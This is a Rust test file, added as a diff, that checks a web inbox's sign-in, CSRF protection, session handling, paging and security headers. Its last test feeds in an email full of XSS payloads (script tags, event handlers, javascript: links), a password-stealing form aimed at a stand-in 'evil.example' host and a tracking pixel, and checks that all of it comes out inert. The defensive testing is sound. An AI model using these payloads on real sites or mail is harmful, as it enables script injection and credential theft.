@@ -1,0 +1,376 @@
+//! The web inbox's handlers through the real router (tower's `oneshot`),
+//! on SQLite and PostgreSQL: signing in and out, access control, CSRF, the
+//! list and the conversation, and hostile HTML made inert.
+
+use axum::body::Body;
+use axum::http::{header, HeaderMap, Request, StatusCode};
+use axum::Router;
+use http_body_util::BodyExt;
+use teaminbox_store::config::WebConfig;
+use teaminbox_store::settings::NewUser;
+use teaminbox_store::testing::{channel, conversation};
+use teaminbox_store::{both_databases, Store};
+use tower::ServiceExt;
+
+const PASSWORD: &str = "correct horse battery";
+
+struct Reply {
+    status: StatusCode,
+    headers: HeaderMap,
+    body: String,
+}
+
+impl Reply {
+    fn location(&self) -> &str {
+        self.headers[header::LOCATION].to_str().unwrap()
+    }
+
+    /// The session token the reply's cookie sets.
+    fn session_token(&self) -> String {
+        let cookie = self.headers[header::SET_COOKIE].to_str().unwrap();
+        let value = cookie.split(';').next().unwrap();
+        value.strip_prefix("teaminbox_session=").unwrap().to_owned()
+    }
+}
+
+struct Inbox {
+    store: Store,
+    router: Router,
+}
+
+impl Inbox {
+    /// A migrated database with alice and bob (both with [`PASSWORD`]),
+    /// the web inbox on it.
+    fn new(db: &teaminbox_store::testing::TestDatabase, config: &WebConfig) -> Self {
+        let store = db.store();
+        store.migrate().unwrap();
+        for (email, username) in [("alice@example.com", "alice"), ("bob@example.com", "bob")] {
+            store
+                .settings()
+                .add_user(&NewUser {
+                    email,
+                    first_name: "Test",
+                    last_name: "User",
+                    username,
+                })
+                .unwrap();
+            store.accounts().set_password(email, PASSWORD).unwrap();
+        }
+        let router = teaminbox_web::router(store.clone(), config);
+        Self { store, router }
+    }
+
+    async fn send(&self, request: Request<Body>) -> Reply {
+        let response = self.router.clone().oneshot(request).await.unwrap();
+        let status = response.status();
+        let headers = response.headers().clone();
+        let bytes = response.into_body().collect().await.unwrap().to_bytes();
+        Reply {
+            status,
+            headers,
+            body: String::from_utf8(bytes.to_vec()).unwrap(),
+        }
+    }
+
+    async fn get(&self, path: &str, token: Option<&str>) -> Reply {
+        let mut request = Request::get(path);
+        if let Some(token) = token {
+            request = request.header(header::COOKIE, format!("teaminbox_session={token}"));
+        }
+        self.send(request.body(Body::empty()).unwrap()).await
+    }
+
+    async fn post(&self, path: &str, token: Option<&str>, form: &str) -> Reply {
+        let mut request =
+            Request::post(path).header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
+        if let Some(token) = token {
+            request = request.header(header::COOKIE, format!("teaminbox_session={token}"));
+        }
+        self.send(request.body(Body::from(form.to_owned())).unwrap())
+            .await
+    }
+
+    async fn sign_in(&self, email: &str, password: &str) -> Reply {
+        let form = form_urlencoded::Serializer::new(String::new())
+            .append_pair("email", email)
+            .append_pair("password", password)
+            .finish();
+        self.post("/sign-in", None, &form).await
+    }
+
+    /// Signs in and returns the session's token and CSRF token.
+    async fn signed_in(&self, email: &str) -> (String, String) {
+        let reply = self.sign_in(email, PASSWORD).await;
+        assert_eq!(reply.status, StatusCode::SEE_OTHER, "{}", reply.body);
+        let token = reply.session_token();
+        let csrf = self
+            .store
+            .accounts()
+            .session(&token)
+            .unwrap()
+            .unwrap()
+            .csrf_token;
+        (token, csrf)
+    }
+
+    fn status_of(&self, id: i64) -> String {
+        self.store.views().conversation(id).unwrap().status
+    }
+}
+
+fn one_conversation(store: &Store, html: Option<&str>) -> i64 {
+    let support = channel(store, "support@inbox.example.com");
+    conversation(
+        store,
+        support,
+        "customer@example.org",
+        "Printer on fire",
+        html,
+        chrono::Utc::now().naive_utc(),
+    )
+}
+
+fn assert_secure_headers(reply: &Reply) {
+    let policy = reply.headers[header::CONTENT_SECURITY_POLICY]
+        .to_str()
+        .unwrap();
+    assert!(policy.contains("default-src 'none'"), "{policy}");
+    assert!(!policy.contains("script-src"), "{policy}");
+    assert!(!policy.contains("unsafe-inline"), "{policy}");
+    assert_eq!(reply.headers[header::X_FRAME_OPTIONS], "DENY");
+    assert_eq!(reply.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
+}
+
+both_databases! {
+    async fn signed_out_requests_go_to_sign_in(db: TestDatabase) {
+        let inbox = Inbox::new(&db, &WebConfig::default());
+        let id = one_conversation(&inbox.store, None);
+        for path in ["/", &format!("/conversations/{id}"), "/messages/1/html"] {
+            let reply = inbox.get(path, None).await;
+            assert_eq!(reply.status, StatusCode::SEE_OTHER, "{path}");
+            assert_eq!(reply.location(), "/sign-in");
+            assert_secure_headers(&reply);
+            let forged = inbox.get(path, Some(&"ab".repeat(32))).await;
+            assert_eq!(forged.location(), "/sign-in", "{path}");
+        }
+        let reply = inbox.post(&format!("/conversations/{id}/close"), None, "csrf=x").await;
+        assert_eq!(reply.location(), "/sign-in");
+        assert_eq!(inbox.status_of(id), "open");
+        let page = inbox.get("/sign-in", None).await;
+        assert_eq!(page.status, StatusCode::OK);
+        assert!(page.body.contains("<form method=\"post\" action=\"/sign-in\""));
+        assert!(!page.body.contains("<script"));
+        assert_secure_headers(&page);
+    }
+}
+
+both_databases! {
+    async fn a_wrong_password_is_refused_and_failures_are_limited(db: TestDatabase) {
+        let inbox = Inbox::new(&db, &WebConfig::default());
+        let reply = inbox.sign_in("alice@example.com", "wrong password").await;
+        assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
+        assert!(reply.body.contains("Wrong email or password."));
+        assert!(!reply.headers.contains_key(header::SET_COOKIE));
+        let reply = inbox.sign_in("nobody@example.com", PASSWORD).await;
+        assert_eq!(reply.status, StatusCode::UNAUTHORIZED);
+
+        let reply = inbox.sign_in("Alice@Example.com", PASSWORD).await;
+        assert_eq!(reply.status, StatusCode::SEE_OTHER);
+        assert_eq!(reply.location(), "/");
+        let cookie = reply.headers[header::SET_COOKIE].to_str().unwrap();
+        assert!(cookie.contains("; HttpOnly"), "{cookie}");
+        assert!(cookie.contains("; SameSite=Lax"), "{cookie}");
+        assert!(!cookie.contains("Secure"), "{cookie}");
+        let list = inbox.get("/", Some(&reply.session_token())).await;
+        assert_eq!(list.status, StatusCode::OK);
+        assert!(list.body.contains("alice@example.com"));
+
+        // Four more failures make five: then even the right password waits.
+        for _ in 0..4 {
+            inbox.sign_in("alice@example.com", "guess").await;
+        }
+        let reply = inbox.sign_in("alice@example.com", PASSWORD).await;
+        assert_eq!(reply.status, StatusCode::TOO_MANY_REQUESTS);
+        assert!(!reply.headers.contains_key(header::SET_COOKIE));
+        assert_eq!(inbox.sign_in("bob@example.com", PASSWORD).await.status, StatusCode::SEE_OTHER);
+    }
+}
+
+both_databases! {
+    async fn the_cookie_is_secure_behind_https(db: TestDatabase) {
+        let config = WebConfig {
+            public_url: "https://inbox.example.com".into(),
+            ..WebConfig::default()
+        };
+        let inbox = Inbox::new(&db, &config);
+        let reply = inbox.sign_in("alice@example.com", PASSWORD).await;
+        let cookie = reply.headers[header::SET_COOKIE].to_str().unwrap();
+        assert!(cookie.ends_with("; Secure"), "{cookie}");
+    }
+}
+
+both_databases! {
+    async fn a_post_without_the_sessions_csrf_token_is_refused(db: TestDatabase) {
+        let inbox = Inbox::new(&db, &WebConfig::default());
+        let id = one_conversation(&inbox.store, None);
+        let (alice, alice_csrf) = inbox.signed_in("alice@example.com").await;
+        let (_bob, bob_csrf) = inbox.signed_in("bob@example.com").await;
+        let close = format!("/conversations/{id}/close");
+        for form in [String::new(), "csrf=".into(), format!("csrf={bob_csrf}")] {
+            let reply = inbox.post(&close, Some(&alice), &form).await;
+            assert_eq!(reply.status, StatusCode::FORBIDDEN, "{form}");
+            assert_eq!(inbox.status_of(id), "open");
+        }
+        let reply = inbox.post("/sign-out", Some(&alice), "").await;
+        assert_eq!(reply.status, StatusCode::FORBIDDEN);
+
+        let reply = inbox.post(&close, Some(&alice), &format!("csrf={alice_csrf}")).await;
+        assert_eq!(reply.status, StatusCode::SEE_OTHER);
+        assert_eq!(reply.location(), format!("/conversations/{id}"));
+        assert_eq!(inbox.status_of(id), "closed");
+        let reply = inbox
+            .post(&format!("/conversations/{id}/reopen"), Some(&alice), &format!("csrf={alice_csrf}"))
+            .await;
+        assert_eq!(reply.status, StatusCode::SEE_OTHER);
+        assert_eq!(inbox.status_of(id), "open");
+        inbox
+            .post(&format!("/conversations/{id}/assign-to-me"), Some(&alice), &format!("csrf={alice_csrf}"))
+            .await;
+        let detail = inbox.store.views().conversation(id).unwrap();
+        assert_eq!(detail.assignee.unwrap().email, "alice@example.com");
+    }
+}
+
+both_databases! {
+    async fn a_session_is_not_accepted_after_sign_out(db: TestDatabase) {
+        let inbox = Inbox::new(&db, &WebConfig::default());
+        let (laptop, laptop_csrf) = inbox.signed_in("alice@example.com").await;
+        let (phone, _) = inbox.signed_in("alice@example.com").await;
+        let (bob, bob_csrf) = inbox.signed_in("bob@example.com").await;
+
+        let reply = inbox.post("/sign-out", Some(&laptop), &format!("csrf={laptop_csrf}")).await;
+        assert_eq!(reply.location(), "/sign-in");
+        let cleared = reply.headers[header::SET_COOKIE].to_str().unwrap();
+        assert!(cleared.starts_with("teaminbox_session=;") && cleared.contains("Max-Age=0"), "{cleared}");
+        assert_eq!(inbox.get("/", Some(&laptop)).await.location(), "/sign-in");
+        assert_eq!(inbox.get("/", Some(&phone)).await.status, StatusCode::OK);
+
+        // Bob signs out everywhere: his token no longer works, for anyone.
+        let reply = inbox
+            .post("/sign-out-everywhere", Some(&bob), &format!("csrf={bob_csrf}"))
+            .await;
+        assert_eq!(reply.location(), "/sign-in");
+        assert_eq!(inbox.get("/", Some(&bob)).await.location(), "/sign-in");
+        let reply = inbox.post("/conversations/1/close", Some(&bob), &format!("csrf={bob_csrf}")).await;
+        assert_eq!(reply.location(), "/sign-in");
+        assert_eq!(inbox.get("/", Some(&phone)).await.status, StatusCode::OK);
+    }
+}
+
+both_databases! {
+    async fn a_sign_in_link_signs_in_once(db: TestDatabase) {
+        let inbox = Inbox::new(&db, &WebConfig::default());
+        let token = inbox.store.accounts().create_sign_in_link("alice@example.com").unwrap();
+        let path = format!("/sign-in/{token}");
+        // Opening the link (a mail scanner might) does not use it.
+        let page = inbox.get(&path, None).await;
+        assert_eq!(page.status, StatusCode::OK);
+        assert!(page.body.contains("<form method=\"post\">"));
+        let reply = inbox.post(&path, None, "").await;
+        assert_eq!(reply.status, StatusCode::SEE_OTHER);
+        let session = inbox.store.accounts().session(&reply.session_token()).unwrap().unwrap();
+        assert_eq!(session.user.email, "alice@example.com");
+        let again = inbox.post(&path, None, "").await;
+        assert_eq!(again.status, StatusCode::NOT_FOUND);
+        assert!(!again.headers.contains_key(header::SET_COOKIE));
+    }
+}
+
+both_databases! {
+    async fn the_list_filters_searches_and_pages(db: TestDatabase) {
+        let inbox = Inbox::new(&db, &WebConfig::default());
+        let support = channel(&inbox.store, "support@inbox.example.com");
+        let start = chrono::Utc::now().naive_utc() - chrono::Duration::hours(2);
+        let ids: Vec<i64> = (0..55)
+            .map(|n| {
+                conversation(
+                    &inbox.store,
+                    support,
+                    &format!("customer{n}@example.org"),
+                    &format!("Question number {n}"),
+                    None,
+                    start + chrono::Duration::seconds(n),
+                )
+            })
+            .collect();
+        let (alice, csrf) = inbox.signed_in("alice@example.com").await;
+        inbox
+            .post(&format!("/conversations/{}/assign-to-me", ids[3]), Some(&alice), &format!("csrf={csrf}"))
+            .await;
+        let list = inbox.get("/", Some(&alice)).await;
+        assert_eq!(list.status, StatusCode::OK);
+        assert_secure_headers(&list);
+        assert!(list.body.contains("Open <span class=\"count\">55</span>"), "{}", list.body);
+        assert!(list.body.contains("Mine <span class=\"count\">1</span>"));
+        assert!(list.body.contains("Unassigned <span class=\"count\">54</span>"));
+        // Newest first, 50 a page, then a link to the older ones.
+        let first = list.body.find("Question number 54").unwrap();
+        assert!(first < list.body.find("Question number 53").unwrap());
+        assert!(!list.body.contains("Question number 4<"));
+        let next = list.body.split("href=\"").find(|s| s.starts_with("/?status=open&#38;after=")).unwrap();
+        let next = next.split('"').next().unwrap().replace("&#38;", "&");
+        let older = inbox.get(&next, Some(&alice)).await;
+        assert!(older.body.contains("Question number 4<"), "{}", older.body);
+        assert!(!older.body.contains("Question number 5<"));
+
+        let mine = inbox.get("/?status=open&assigned=me", Some(&alice)).await;
+        assert!(mine.body.contains("Question number 3<"));
+        assert!(!mine.body.contains("Question number 4<"));
+        let found = inbox.get("/?status=all&q=CUSTOMER17%40", Some(&alice)).await;
+        assert!(found.body.contains("Question number 17<"));
+        assert!(!found.body.contains("Question number 18<"));
+        let bad = inbox.get("/?status=pending", Some(&alice)).await;
+        assert_eq!(bad.status, StatusCode::NOT_FOUND);
+    }
+}
+
+both_databases! {
+    async fn hostile_html_comes_out_inert(db: TestDatabase) {
+        let inbox = Inbox::new(&db, &WebConfig::default());
+        let hostile = "<p>Hello <b>agent</b></p>\
+            <script>alert('x')</script>\
+            <img src=\"x\" onerror=\"alert('img')\">\
+            <a href=\"javascript:alert('link')\">click</a>\
+            <img src=\"https://tracker.example/pixel.gif\" width=\"1\">\
+            <form action=\"https://evil.example/steal\"><input name=\"password\"></form>\
+            <div onmouseover=\"alert('div')\" style=\"background:url(https://tracker.example/bg)\">x</div>\
+            <iframe src=\"https://evil.example/\"></iframe>";
+        let id = one_conversation(&inbox.store, Some(hostile));
+        let (alice, _) = inbox.signed_in("alice@example.com").await;
+
+        let page = inbox.get(&format!("/conversations/{id}"), Some(&alice)).await;
+        assert_eq!(page.status, StatusCode::OK);
+        assert!(page.body.contains("Printer on fire"));
+        assert!(page.body.contains("<details class=\"decisions\"><summary>Why is this here?</summary>"));
+        assert!(page.body.contains("Filed by a test."));
+        let frame = page.body.split("<iframe").nth(1).unwrap().split('>').next().unwrap();
+        assert!(frame.starts_with(" sandbox src=\"/messages/1/html\""), "{frame}");
+        assert!(!page.body.contains("allow-scripts"));
+        assert!(!page.body.contains("tracker.example"));
+
+        let body = inbox.get("/messages/1/html", Some(&alice)).await;
+        assert_eq!(body.status, StatusCode::OK);
+        assert_eq!(
+            body.headers[header::CONTENT_SECURITY_POLICY],
+            "default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'"
+        );
+        assert_eq!(body.headers[header::X_FRAME_OPTIONS], "SAMEORIGIN");
+        assert_eq!(body.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
+        assert!(body.body.contains("<p>Hello <b>agent</b></p>"), "{}", body.body);
+        for inert in ["<script", "alert(", "onerror", "onmouseover", "javascript:", "tracker.example",
+                      "evil.example", "<form", "<input", "<iframe", "src="] {
+            assert!(!body.body.contains(inert), "{inert} in {}", body.body);
+        }
+        assert_eq!(inbox.get("/messages/99/html", Some(&alice)).await.status, StatusCode::NOT_FOUND);
+    }
+}
